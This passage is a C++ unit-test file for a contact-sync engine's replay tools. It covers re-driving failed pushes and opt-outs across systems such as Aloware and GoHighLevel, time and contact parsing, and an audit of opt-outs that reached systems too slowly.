// The replay tools' pure parts on in-memory logs the tests build: re-drive
// decisions and their codec, times and contact names, dead letters, trace
// findings, the violations audit and the hash-chain summary. The commands
// against a real service are in tests/integration/replay_tools_test.py.
#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>

#include "config/config.h"
#include "connectors/common/mapper.h"
#include "events/webhook_received.h"
#include "replay-tools/audit.h"
#include "replay-tools/events_command.h"
#include "replay-tools/redrive_items.h"
#include "replay-tools/replay.h"
#include "replay-tools/story.h"
#include "replay-tools/tool_log.h"
#include "replay-tools/trace.h"
#include "storage/memory_event_log.h"
#include "sync/consent.h"
#include "sync/identity.h"
#include "sync/redrive.h"
#include "sync/settle.h"
#include "util/clock.h"

namespace dfm {
namespace {

constexpr int64_t kDay = 86400LL * 1000000;
// 2026-11-20 is a Friday.
const int64_t kFriday = *ParseIso8601Micros("2026-11-20T15:00:00Z");

ContactState Existing() {
  ContactState s;
  s.contact_id = "c1";
  s.exists = true;
  s.fields["phone"] = {"+12055550142", "ghl", 1};
  s.fields["first_name"] = {"Ada", "ghl", 1};
  s.links["ghl"] = "g1";
  return s;
}

SyncContext Ctx() {
  SyncContext ctx;
  ctx.targets["aloware"] = {"phone", "first_name"};
  ctx.targets["ghl"] = {"phone", "first_name"};
  // The roles as the built-in connectors default them (no owners).
  ctx.conversations = BuiltinRole("conversations");
  ctx.sender = BuiltinRole("sender");
  ctx.lists_target = BuiltinRole("lists");
  return ctx;
}

RedriveItem Item(const std::string& system, const std::string& op) {
  RedriveItem it;
  it.contact_id = "c1";
  it.cause = "01M7YWCNZA7P3NEYT5EM2ZNRES";
  it.push.type = std::string(ev::kPushRequested);
  it.push.system = system;
  it.push.op = op;
  it.push.push_id = "c1:" + system + ":7";
  return it;
}

std::vector<DomainEvent> Redrive1(const ContactState& s, const RedriveItem& item, uint64_t seq) {
  return DecideRedrive(s, {{0, item}}, seq, Ctx());
}

TEST(Redrive, UpsertSendsWhatTheTargetLacksNow) {
  ContactState s = Existing();
  auto out = Redrive1(s, Item("aloware", "upsert"), 40);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kPushRequested);
  EXPECT_EQ(out[0].push_id, "c1:aloware:replay40:0");
  EXPECT_EQ(out[0].webhook_seq, 40u);
  EXPECT_EQ(out[0].fields.at("first_name"), "Ada");
  EXPECT_EQ(out[0].fields.at("phone"), "+12055550142");
  EXPECT_EQ(out[0].detail, std::string(kRedriveDetailPrefix) + "01M7YWCNZA7P3NEYT5EM2ZNRES");

  s.known["aloware"] = {{"phone", "+12055550142"}, {"first_name", "Ada"}};
  out = Redrive1(s, Item("aloware", "upsert"), 40);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  EXPECT_NE(out[0].reason.find("already holds"), std::string::npos);
}

// A target that needs a phone gets no re-driven upsert of a contact without
// one, as it gets no live one.
TEST(Redrive, NoUpsertToATargetThatNeedsAFieldTheContactLacks) {
  ContactState s = Existing();
  s.fields.erase("phone");
  s.fields["email"] = {"ada@example.com", "ghl", 1};
  SyncContext ctx = Ctx();
  ctx.key_field["aloware"] = "phone";
  auto out = DecideRedrive(s, {{0, Item("aloware", "upsert")}}, 40, ctx);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  EXPECT_EQ(out[0].reason, "aloware needs a phone; the contact has none");
  out = DecideRedrive(s, {{0, Item("ghl", "upsert")}}, 41, ctx);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kPushRequested);
}

TEST(Redrive, SkipsWhatNoLongerApplies) {
  ContactState s = Existing();
  EXPECT_EQ(Redrive1(s, Item("verity", "upsert"), 40)[0].reason, "verity has no connector");
  s.last_fact_seq = 40;
  EXPECT_TRUE(Redrive1(s, Item("aloware", "upsert"), 40).empty()) << "decided already";
  s.last_fact_seq = 0;
  RedriveItem opt = Item("aloware", "opt_out");
  opt.push.channel = "sms";
  EXPECT_EQ(Redrive1(s, opt, 41)[0].type, ev::kRedriveSkipped) << "opted in now";
  s.consent["sms"] = {true, 5, false, ""};
  EXPECT_EQ(Redrive1(s, opt, 41)[0].type, ev::kPushRequested);
  RedriveItem in = Item("aloware", "opt_in");
  in.push.channel = "call,sms";
  EXPECT_EQ(Redrive1(s, in, 41)[0].reason, "the sms channel is opted out now");
  RedriveItem send = Item("aloware", "send");
  send.push.message_key = "ghl:m1";
  auto refused = Redrive1(s, send, 42);
  EXPECT_EQ(refused[0].type, ev::kMessageRefused) << "never sent to an opted-out number";
  ContactState gone;
  EXPECT_EQ(Redrive1(gone, Item("aloware", "upsert"), 43)[0].reason,
            "the contact does not exist");
}

// An opt-out naming channels of which some are back in (Aloware's is_dnc
// names sms and call; the person opted out of texts only) is re-driven
// while any is out: the one flag whole (decided on the flag, whatever the
// item names), another system only the channels still out.
TEST(Redrive, AnOptOutIsReDrivenWhileAnyChannelItNamesIsOut) {
  ContactState s = Existing();
  s.consent["sms"] = {true, 5, false, ""};
  SyncContext ctx = Ctx();
  ctx.one_flag = {"aloware"};
  ctx.channels["aloware"] = {"sms", "call"};
  uint64_t seq = 40;
  auto one = [&](const RedriveItem& item) {  // the one event a re-drive of `item` decides
    auto out = DecideRedrive(s, {{0, item}}, ++seq, ctx);
    EXPECT_EQ(out.size(), 1u);
    return out.empty() ? DomainEvent{} : out[0];
  };
  RedriveItem flag = Item("aloware", "opt_out");
  flag.push.channel = "call,sms";
  auto out = one(flag);
  ASSERT_EQ(out.type, ev::kPushRequested) << out.reason;
  EXPECT_EQ(out.channel, "call,sms") << "the flag covers both";
  RedriveItem dnd = Item("ghl", "opt_out");
  dnd.push.channel = "email,sms";
  out = one(dnd);
  ASSERT_EQ(out.type, ev::kPushRequested) << out.reason;
  EXPECT_EQ(out.channel, "sms") << "email is in now: not set again";
  s.consent["sms"] = {false, 6, false, ""};
  out = one(flag);
  EXPECT_EQ(out.type, ev::kRedriveSkipped) << "none is out now";
  s.consent["call"] = {true, 7, false, ""};
  RedriveItem sms = Item("aloware", "opt_out");  // a reconcile's item: the channel it found
  sms.push.channel = "sms";
  out = one(sms);
  ASSERT_EQ(out.type, ev::kPushRequested) << out.reason;
  EXPECT_EQ(out.channel, "call,sms") << "call is out: the flag stays set";
  RedriveItem lift = Item("aloware", "opt_in");
  lift.push.channel = "sms";
  out = one(lift);
  EXPECT_EQ(out.type, ev::kRedriveSkipped) << "the flag would clear call's opt-out";
  ctx.channels["aloware"].clear();  // a one-flag system keeping no channel (a dialer only)
  out = one(lift);
  EXPECT_EQ(out.type, ev::kRedriveSkipped) << "nothing named, nothing cleared";
}

// A re-driven push to a record a fact newly linked (PushToNewRecord) goes
// to that record and its address still, not to the contact's link and
// number now (Aloware finds its record by the number).
TEST(Redrive, ANewRecordsOptOutGoesToThatRecordStill) {
  ContactState s = Existing();
  s.consent["sms"] = {true, 5, false, ""};
  s.links["aloware"] = "al-old";
  RedriveItem told = Item("aloware", "opt_out");
  told.push.push_id = "c1:aloware:77:opt_out:record";
  told.push.contact_id = "c1";
  told.push.external_id = "al-new";
  told.push.channel = "sms";
  told.push.fields["phone"] = "+12055550199";
  auto out = Redrive1(s, told, 46);
  ASSERT_EQ(out.size(), 1u);
  ASSERT_EQ(out[0].type, ev::kPushRequested) << out[0].reason;
  EXPECT_EQ(out[0].external_id, "al-new");
  EXPECT_EQ(out[0].fields.at("phone"), "+12055550199");
  EXPECT_TRUE(HasOptOutTag(out[0], kNewRecordTag)) << out[0].push_id;
  EXPECT_FALSE(LinksNoRecord(out[0]));
  RedriveItem made = told;  // one to a record an upsert's answer named
  made.push.push_id = "c1:aloware:0:opt_out:record:c1:aloware:70";
  out = Redrive1(s, made, 48);
  ASSERT_EQ(out.size(), 1u);
  ASSERT_EQ(out[0].type, ev::kPushRequested) << out[0].reason;
  EXPECT_EQ(out[0].external_id, "al-new");
  EXPECT_TRUE(HasOptOutTag(out[0], kNewRecordTag)) << out[0].push_id;
  s.told["aloware"]["al-new"] = {"sms"};  // set since (its webhook's turn came first)
  out = Redrive1(s, told, 47);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped) << "it holds them already";
}

// A mark re-driven goes only where the target takes marks: one an
// earlier build asked of HaloPSA or Genesys would be refused for good.
TEST(Redrive, AMarkGoesOnlyToATargetThatTakesMarks) {
  ContactState s = Existing();
  s.deleted = true;
  s.deleted_in = "ghl";
  s.links["aloware"] = "al-1";
  RedriveItem mark = Item("aloware", "mark_dnc");
  mark.push.external_id = "al-1";
  SyncContext ctx = Ctx();
  auto out = DecideRedrive(s, {{0, mark}}, 50, ctx);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  EXPECT_EQ(out[0].reason, "aloware takes no do-not-contact marks");
  ctx.marks_dnc.insert("aloware");
  out = DecideRedrive(s, {{0, mark}}, 51, ctx);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kPushRequested) << out[0].reason;
  EXPECT_EQ(out[0].op, "mark_dnc");
  EXPECT_EQ(out[0].external_id, "al-1");
}

// A deleted contact's opt-outs still land, and its deletion's marks are
// what it asked for: a re-drive sends them (it skipped every re-drive of
// a deleted contact, so a mark, which only a deleted contact has, could
// never be re-driven). Its other pushes are skipped; a mark of a contact
// that came back since is too (it would block a live contact).
TEST(Redrive, ADeletedContactsOptOutsAndMarksAreReDriven) {
  ContactState s = Existing();
  s.deleted = true;
  s.deleted_in = "ghl";
  s.links["aloware"] = "al-1";
  s.consent["sms"] = {true, 5, true, ""};
  SyncContext ctx = Ctx();
  ctx.marks_dnc.insert("aloware");
  RedriveItem out = Item("aloware", "opt_out");
  out.push.channel = "sms";
  RedriveItem mark = Item("aloware", "mark_dnc");
  mark.push.external_id = "al-0";  // the record linked at the deletion; al-1 linked since
  for (const RedriveItem& item : {out, mark}) {
    auto got = DecideRedrive(s, {{0, item}}, 60, ctx);
    ASSERT_EQ(got.size(), 1u) << item.push.op;
    EXPECT_EQ(got[0].type, ev::kPushRequested) << item.push.op << ": " << got[0].reason;
    EXPECT_EQ(got[0].op, item.push.op);
  }
  // The mark goes to the record it was asked for, not the link of now, and
  // its answer links nothing.
  auto marked = DecideRedrive(s, {{0, mark}}, 63, ctx);
  ASSERT_EQ(marked.size(), 1u);
  EXPECT_EQ(marked[0].external_id, "al-0");
  EXPECT_TRUE(MarksRecordAfterDeletion(marked[0])) << marked[0].push_id;
  auto up = DecideRedrive(s, {{0, Item("aloware", "upsert")}}, 61, ctx);
  ASSERT_EQ(up.size(), 1u);
  EXPECT_EQ(up[0].type, ev::kRedriveSkipped);
  EXPECT_EQ(up[0].reason, "the contact is deleted");
  s.deleted = false;  // it came back
  auto back = DecideRedrive(s, {{0, mark}}, 62, ctx);
  ASSERT_EQ(back.size(), 1u);
  EXPECT_EQ(back[0].type, ev::kRedriveSkipped);
  EXPECT_EQ(back[0].reason, "the contact is not deleted now");
}

// A message's delivery re-driven after it was read is not told (it would
// move the message back); its read is.
TEST(Redrive, ADeliveryIsNotToldAfterTheMessageWasRead) {
  ContactState s = Existing();
  s.messages["verity:m1"].status = "read";
  RedriveItem delivered = Item("ghl", "message_status");
  delivered.push.message_key = "verity:m1";
  delivered.push.fields = {{"message_id", "ghl-m1"}, {"status", "delivered"}};
  auto out = Redrive1(s, delivered, 52);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  RedriveItem read = delivered;
  read.push.fields["status"] = "read";
  out = Redrive1(s, read, 53);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kPushRequested) << out[0].reason;
  s.messages["verity:m1"].status = "delivered";
  out = Redrive1(s, delivered, 54);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kPushRequested) << out[0].reason;
}

// A send its campaign withdrew (cancelled while it waited; its attempt on
// the wire then dead-lettered) is never re-driven.
TEST(Redrive, ASendItsCampaignWithdrewIsNotReSent) {
  ContactState s = Existing();
  RedriveItem send = Item("verity", "send");
  send.push.message_key = "campaign:spring-1/0/c1";
  SyncContext ctx = Ctx();
  ctx.targets["verity"] = {"phone"};
  DomainEvent withdrawn;
  withdrawn.type = std::string(ev::kMessageRefused);
  withdrawn.message_key = send.push.message_key;
  withdrawn.push_id = send.push.push_id;
  withdrawn.reason = std::string(kWithdrawnReason) + " (campaign cancelled)";
  EXPECT_EQ(DecideRedrive(s, {{0, send}}, 42, ctx)[0].type, ev::kPushRequested) << "before";
  Apply(&s, withdrawn, 41, 1);
  auto out = DecideRedrive(s, {{0, send}}, 42, ctx);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  EXPECT_EQ(out[0].reason, "its campaign withdrew it before it was sent");
}

TEST(Redrive, AContactsItemsAreDecidedTogetherAndSendsKeepTheirNumber) {
  ContactState s = Existing();
  RedriveItem opt = Item("ghl", "opt_out");
  opt.push.channel = "sms";
  s.consent["sms"] = {true, 5, false, ""};
  auto out = DecideRedrive(s, {{0, Item("aloware", "upsert")}, {1, opt}}, 50, Ctx());
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].push_id, "c1:aloware:replay50:0");
  EXPECT_EQ(out[1].push_id, "c1:ghl:replay50:1");
  s.consent["sms"] = {false, 6, false, ""};
  RedriveItem send = Item("aloware", "send");
  send.push.fields["phone"] = "+12055550199";  // asked for another number
  out = Redrive1(s, send, 51);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  send.push.fields["phone"] = "+12055550142";
  out = Redrive1(s, send, 51);
  EXPECT_EQ(out[0].type, ev::kPushRequested);
  EXPECT_EQ(out[0].fields.at("phone"), "+12055550142");
}

// Two items of one request name one text (its dead letter and the dead
// letter of an earlier re-drive of it, both listed again when that
// re-drive's record could no longer be read): it is re-sent once.
TEST(Redrive, ATextNamedTwiceInOneRequestIsSentOnce) {
  ContactState s = Existing();
  RedriveItem first = Item("aloware", "send");
  first.push.message_key = "ghl:gm1";
  first.push.channel = "sms";
  first.push.fields["phone"] = "+12055550142";
  RedriveItem again = first;
  again.push.push_id = "c1:aloware:replay40:0";
  again.cause = "01M7YWCNZA7P3NEYT5EM2ZNREZ";
  auto out = DecideRedrive(s, {{0, first}, {1, again}}, 52, Ctx());
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].type, ev::kPushRequested);
  EXPECT_EQ(out[1].type, ev::kRedriveSkipped);
  EXPECT_NE(out[1].reason.find("same text"), std::string::npos) << out[1].reason;
}

// Two requests re-driving one dead letter (with different reasons, so two
// replay.requested events) can both pass the planner before either is in
// the log: the second, decided once the first's send is on its way, does
// not send the text again. Once that send has died, it may be asked again.
TEST(Redrive, ATextOnItsWayFromAnEarlierRequestIsNotSentAgain) {
  ContactState s = Existing();
  RedriveItem first = Item("aloware", "send");
  first.push.message_key = "ghl:gm1";
  first.push.channel = "sms";
  first.push.fields["phone"] = "+12055550142";
  auto out1 = DecideRedrive(s, {{0, first}}, 52, Ctx());
  ASSERT_EQ(out1.size(), 1u);
  ASSERT_EQ(out1[0].type, ev::kPushRequested);
  Apply(&s, out1[0], 52, 0);
  auto out2 = DecideRedrive(s, {{0, first}}, 53, Ctx());
  ASSERT_EQ(out2.size(), 1u);
  EXPECT_EQ(out2[0].type, ev::kRedriveSkipped);
  EXPECT_NE(out2[0].reason.find("on its way"), std::string::npos) << out2[0].reason;

  DomainEvent dead;
  dead.type = std::string(ev::kPushDeadLettered);
  dead.contact_id = s.contact_id;
  dead.system = "aloware";
  dead.push_id = out1[0].push_id;
  dead.op = "send";
  dead.message_key = "ghl:gm1";
  Apply(&s, dead, 54, 0);
  auto out3 = DecideRedrive(s, {{0, first}}, 55, Ctx());
  ASSERT_EQ(out3.size(), 1u);
  EXPECT_EQ(out3[0].type, ev::kPushRequested);
}

// A text first asked for longer ago than sync.redrive_max_text_age_h is
// not re-sent: the moment it was for has passed. Other pushes have no age
// limit, and a request that does not say when (written before the field
// was) is decided as before.
TEST(Redrive, AStaleTextIsNotReSent) {
  ContactState s = Existing();
  SyncContext ctx = Ctx();
  ctx.now_us = kFriday;
  ctx.redrive_max_text_age_us = 24 * 3600 * 1000000LL;
  RedriveItem send = Item("aloware", "send");
  send.push.message_key = "ghl:m1";
  send.asked_at_us = kFriday - 25 * 3600 * 1000000LL;
  auto out = DecideRedrive(s, {{0, send}}, 60, ctx);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  EXPECT_EQ(out[0].reason,
            "the text was first asked for 25 h 00 min ago, longer than "
            "sync.redrive_max_text_age_h (24 h): not re-sent");
  // A text GoHighLevel asked for and nobody ever asked the sender to send
  // (a missing push) is still pending there: it is told the text failed.
  // One that was dead-lettered was told when it died.
  s.messages["ghl:m1"].origin = "ghl";
  s.messages["ghl:m1"].ids["ghl"] = "gm-1";
  out = DecideRedrive(s, {{0, send}}, 60, ctx);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].type, ev::kRedriveSkipped);
  EXPECT_EQ(out[1].type, ev::kPushRequested);
  EXPECT_EQ(out[1].system, "ghl");
  EXPECT_EQ(out[1].op, "message_status");
  EXPECT_EQ(out[1].fields.at("message_id"), "gm-1");
  EXPECT_EQ(out[1].fields.at("status"), "failed");
  EXPECT_EQ(out[1].fields.at("error"), "not sent: " + out[0].reason);
  EXPECT_EQ(out[1].push_id, "c1:ghl:message_status:ghl:m1:failed:60:redrive");
  // Two items naming the one text: one report. Once it is applied, a later
  // request reports nothing more.
  EXPECT_EQ(DecideRedrive(s, {{0, send}, {1, send}}, 70, ctx).size(), 3u);
  ContactState told = s;
  Apply(&told, out[1], 0, kFriday);
  EXPECT_EQ(DecideRedrive(told, {{0, send}}, 71, ctx).size(), 1u);
  // So is one skipped because the number changed, or refused for an opt-out.
  RedriveItem moved = send;
  moved.asked_at_us = kFriday;
  moved.push.fields["phone"] = "+12055550199";
  out = DecideRedrive(s, {{0, moved}}, 65, ctx);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[1].fields.at("error"), "not sent: the contact's number changed since the text was asked for");
  s.consent["sms"] = {true, 5, false, ""};
  out = DecideRedrive(s, {{0, send}}, 66, ctx);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].type, ev::kMessageRefused);
  EXPECT_EQ(out[1].op, "message_status");
  s.consent.erase("sms");
  // And one not sent because the contact was deleted since, or because
  // the sender has no connector now.
  ContactState gone = s;
  gone.deleted = true;
  out = DecideRedrive(gone, {{0, moved}}, 67, ctx);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].reason, "the contact is deleted");
  EXPECT_EQ(out[1].fields.at("error"), "not sent: the contact is deleted");
  SyncContext no_sender = ctx;
  no_sender.targets.erase("aloware");
  out = DecideRedrive(s, {{0, moved}}, 68, no_sender);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[1].system, "ghl");
  EXPECT_EQ(out[1].fields.at("error"), "not sent: aloware has no connector");
  EXPECT_EQ(out[1].push_id, "c1:ghl:message_status:ghl:m1:failed:68:redrive");
  // Other ops skipped for those reasons report nothing.
  RedriveItem up = Item("aloware", "upsert");
  EXPECT_EQ(DecideRedrive(gone, {{0, up}}, 69, ctx).size(), 1u);
  s.messages["ghl:m1"].delivery_decided = true;
  EXPECT_EQ(DecideRedrive(s, {{0, send}}, 60, ctx).size(), 1u);
  s.messages.erase("ghl:m1");
  // The other checks come first: an opted-out number is refused, as any text.
  s.consent["sms"] = {true, 5, false, ""};
  EXPECT_EQ(DecideRedrive(s, {{0, send}}, 60, ctx)[0].type, ev::kMessageRefused);
  s.consent.erase("sms");
  // Exactly the limit: still sent.
  send.asked_at_us = kFriday - 24 * 3600 * 1000000LL;
  EXPECT_EQ(DecideRedrive(s, {{0, send}}, 61, ctx)[0].type, ev::kPushRequested);
  send.asked_at_us = kFriday - 23 * 3600 * 1000000LL;
  EXPECT_EQ(DecideRedrive(s, {{0, send}}, 61, ctx)[0].type, ev::kPushRequested);
  send.asked_at_us = 0;
  EXPECT_EQ(DecideRedrive(s, {{0, send}}, 62, ctx)[0].type, ev::kPushRequested);
  send.asked_at_us = kFriday - 25 * 3600 * 1000000LL;
  ctx.redrive_max_text_age_us = 0;  // no limit
  EXPECT_EQ(DecideRedrive(s, {{0, send}}, 63, ctx)[0].type, ev::kPushRequested);
  ctx.redrive_max_text_age_us = 24 * 3600 * 1000000LL;
  RedriveItem upsert = Item("aloware", "upsert");
  upsert.asked_at_us = kFriday - 30 * 24 * 3600 * 1000000LL;
  EXPECT_EQ(DecideRedrive(s, {{0, upsert}}, 64, ctx)[0].type, ev::kPushRequested);
}

TEST(Redrive, RequestCodecRoundTripsAndRejectsBadInput) {
  ReplayRequest r;
  r.reason = "dfm replay --from -1d";
  RedriveItem it = Item("aloware", "upsert");
  it.push.fields["phone"] = "+12055550142";
  it.asked_at_us = kFriday;
  r.items.push_back(it);
  ReplayRequest back;
  ASSERT_TRUE(DecodeReplayRequest(EncodeReplayRequest(r), &back).ok());
  ASSERT_EQ(back.items.size(), 1u);
  EXPECT_EQ(back.reason, r.reason);
  EXPECT_EQ(back.items[0].cause, it.cause);
  EXPECT_EQ(back.items[0].asked_at_us, kFriday);
  EXPECT_EQ(back.items[0].push.fields, it.push.fields);
  EXPECT_FALSE(DecodeReplayRequest("{", &back).ok());
  EXPECT_FALSE(DecodeReplayRequest(R"({"items":[{"push":{}}]})", &back).ok());
  EXPECT_FALSE(DecodeReplayRequest(R"({"items":[{"contact_id":"c","push":{"op":"upsert"}}]})", &back).ok());
}

TEST(ToolLog, TimesContactNamesAndSeqSearch) {
  int64_t now = kFriday;
  EXPECT_EQ(*ParseToolTime("-2h", now), now - 2 * 3600 * 1000000LL);
  EXPECT_EQ(*ParseToolTime("2026-11-20", now), *ParseIso8601Micros("2026-11-20T00:00:00Z"));
  EXPECT_FALSE(ParseToolTime("yesterday", now));
  // Spans whose µs pass 64 bits are refused, not wrapped into the future.
  EXPECT_FALSE(ParseToolTime("-9999999999h", now));
  EXPECT_FALSE(ParseToolTime("-200000000d", now));
  EXPECT_EQ(*ParseToolTime("-1000000d", now), now - 1000000LL * 86400 * 1000000);
  EXPECT_EQ(FormatToolTime(kFriday), "2026-11-20T15:00:00.000Z");

  Normalizer n("US");
  ContactRef r;
  ASSERT_TRUE(ParseContactRef("(205) 555-0142", n, &r).ok());
  EXPECT_EQ(r.value, "+12055550142");
  ASSERT_TRUE(ParseContactRef("Ann@Example.com", n, &r).ok());
  EXPECT_EQ(r.kind, ContactRef::Kind::kEmail);
  EXPECT_EQ(r.value, "ann@example.com");
  ASSERT_TRUE(ParseContactRef("aloware:77", n, &r).ok());
  EXPECT_EQ(r.system, "aloware");
  EXPECT_FALSE(ParseContactRef("hubspot:1", n, &r).ok());

  ManualClock clock(kFriday);
  MemoryEventLog log(&clock);
  for (int i = 0; i < 10; ++i) {
    EventDraft d;
    d.tenant = "default";
    d.stream = "s";
    d.type = "x";
    AppendOutcome o;
    ASSERT_TRUE(log.Append(d, &o).ok());
    clock.Advance(1000000);
  }
  EXPECT_EQ(FirstSeqAtOrAfter(log, kFriday + 3500000), 5u);
  EXPECT_EQ(FirstSeqAtOrAfter(log, 0), 1u);
  EXPECT_EQ(FirstSeqAtOrAfter(log, kFriday + kDay), 11u);
}

TEST(Audit, BusinessDays) {
  EXPECT_EQ(BusinessDaysBetween(kFriday, kFriday + 3600000000LL), 0);
  EXPECT_EQ(BusinessDaysBetween(kFriday, kFriday + 3 * kDay), 1) << "Friday to Monday";
  EXPECT_EQ(BusinessDaysBetween(kFriday, kFriday + 14 * kDay), 10);
  EXPECT_EQ(BusinessDaysBetween(kFriday, kFriday + 15 * kDay), 10) << "the third Saturday";
}

// A log the tests write event by event: domain events with chosen causes.
class Built {
 public:
  Built() : clock(kFriday), log(&clock) {}
  EventId Add(const DomainEvent& d, const EventId& cause, int64_t advance_us = 1000) {
    clock.Advance(advance_us);
    std::string stream = d.contact_id.empty() ? SourceStream(d.system) : ContactStream(d.contact_id);
    AppendOutcome o;
    EXPECT_TRUE(log.Append(ToDraft(d, "default", stream, cause, cause), &o).ok());
    return o.id;
  }
  EventId Webhook() {
    EventDraft w;
    w.tenant = "default";
    w.stream = "source:verity";
    w.type = "webhook.received";
    AppendOutcome o;
    EXPECT_TRUE(log.Append(w, &o).ok());
    return o.id;
  }
  ManualClock clock;
  MemoryEventLog log;
};

DomainEvent Ev(std::string_view type, const std::string& system, const std::string& op = "") {
  DomainEvent d;
  d.type = std::string(type);
  d.contact_id = "c1";
  d.system = system;
  d.op = op;
  return d;
}

// A STOP from Verity at kFriday for +12055550142, and its opt-out push to
// Aloware requested (returned: its outcome is up to the test).
DomainEvent OptOutToldToAloware(Built* b, const EventId& hook) {
  DomainEvent out = Ev(ev::kOptedOut, "verity");
  out.channel = "sms";
  out.fields["phone"] = "+12055550142";
  out.source_time_us = kFriday;
  b->Add(out, hook);
  DomainEvent req = Ev(ev::kPushRequested, "aloware", "opt_out");
  req.push_id = "c1:aloware:1:opt_out";
  b->Add(req, hook);
  return req;
}

// One GoHighLevel DND webhook, two statements (sms; email permanent):
// each row lists the pushes of its own channels, each once (Aloware's
// one flag for sms, HaloPSA's for email; a push's channels are its first
// request's), and HaloPSA's dead push makes only the email opt-out late.
TEST(Audit, EachStatementOfAWebhookCountsThePushesOfItsOwnChannels) {
  Built b;
  EventId hook = b.Webhook();
  for (const std::string ch : {"sms", "email"}) {
    DomainEvent out = Ev(ev::kOptedOut, "ghl");
    out.channel = ch;
    out.fields["phone"] = "+12055550142";
    out.source_time_us = kFriday;
    b.Add(out, hook);
  }
  DomainEvent alo = Ev(ev::kPushRequested, "aloware", "opt_out");
  alo.channel = "sms,call";
  alo.push_id = "c1:aloware:1:opt_out";
  b.Add(alo, hook);
  // Another statement's decision asking for the same push id: the
  // connector ignores it, so what went is the first request's channels.
  DomainEvent again = alo;
  again.channel = "email";
  b.Add(again, hook);
  DomainEvent halo = Ev(ev::kPushRequested, "halopsa", "opt_out");
  halo.channel = "email";
  halo.push_id = "c1:halopsa:1:opt_out";
  b.Add(halo, hook);
  DomainEvent ok = Ev(ev::kPushSucceeded, "aloware", "opt_out");
  ok.push_id = alo.push_id;
  b.Add(ok, hook);
  DomainEvent dead = Ev(ev::kPushDeadLettered, "halopsa", "opt_out");
  dead.push_id = halo.push_id;
  b.Add(dead, hook);

  std::vector<ConsentRecord> records;
  ASSERT_TRUE(CollectConsentRecords(b.log, {}, &records).ok());
  ASSERT_EQ(records.size(), 2u);
  auto systems = [](const ConsentRecord& r) {
    std::string s;
    for (const auto& t : r.told) s += t.system + "(" + t.state + ") ";
    return s;
  };
  EXPECT_EQ(systems(records[0]), "aloware(succeeded) ") << records[0].channel;
  EXPECT_EQ(systems(records[1]), "halopsa(dead) ") << records[1].channel;
  ViolationOptions o;
  o.now_us = kFriday + 17 * kDay;
  std::vector<Violation> v;
  ASSERT_TRUE(FindViolations(b.log, o, &v).ok());
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0].channel, "email");
}

// An auditor asks for ann@x.com's opt-outs where the engine counts plus
// addresses as one person (sync.email_plus_addressing = "same"): the
// unsubscribe of ann+news@x.com is hers. Where they are distinct, not.
TEST(Audit, AnEmailsOptOutsIncludeItsPlusAddressesWhereTheyAreOnePerson) {
  Built b;
  EventId hook = b.Webhook();
  for (const std::string email : {"ann+news@x.com", "ann@x.com", "bob+ann@x.com"}) {
    DomainEvent out = Ev(ev::kOptedOut, "ghl");
    out.channel = "email";
    out.fields["email"] = email;
    out.source_time_us = kFriday;
    b.Add(out, hook);
  }
  auto found = [&](const std::string& email, bool fold) {
    OptOutAuditOptions o;
    o.email = email;
    o.fold_plus_addressing = fold;
    std::vector<ConsentRecord> records;
    EXPECT_TRUE(CollectConsentRecords(b.log, o, &records).ok());
    std::string s;
    for (const auto& r : records) s += r.email + " ";
    return s;
  };
  EXPECT_EQ(found("ann@x.com", true), "ann+news@x.com ann@x.com ");
  EXPECT_EQ(found("ann+promo@x.com", true), "ann+news@x.com ann@x.com ");
  EXPECT_EQ(found("ann@x.com", false), "ann@x.com ");
  EXPECT_EQ(found("ann+news@x.com", false), "ann+news@x.com ");
}

TEST(Audit, OptOutTooSlowToReachASystemIsAViolation) {
  Built b;
  EventId hook = b.Webhook();
  DomainEvent req = OptOutToldToAloware(&b, hook);
  DomainEvent req2 = req;
  req2.system = "ghl";
  req2.push_id = "c1:ghl:1:opt_out";
  b.Add(req2, hook);
  DomainEvent ok = Ev(ev::kPushSucceeded, "ghl", "opt_out");
  ok.push_id = req2.push_id;
  b.Add(ok, hook, kDay);  // GoHighLevel: told the next day
  DomainEvent late = Ev(ev::kPushSucceeded, "aloware", "opt_out");
  late.push_id = req.push_id;
  b.Add(late, hook, 20 * kDay);  // Aloware: 21 days on

  std::vector<ConsentRecord> records;
  ASSERT_TRUE(CollectConsentRecords(b.log, {}, &records).ok());
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0].told.size(), 2u);
  EXPECT_EQ(records[0].record_sha256.size(), 64u);

  ViolationOptions o;
  o.now_us = kFriday + 30 * kDay;
  std::vector<Violation> v;
  ASSERT_TRUE(FindViolations(b.log, o, &v).ok());
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0].kind, "slow_opt_out");
  ASSERT_EQ(v[0].systems.size(), 1u);
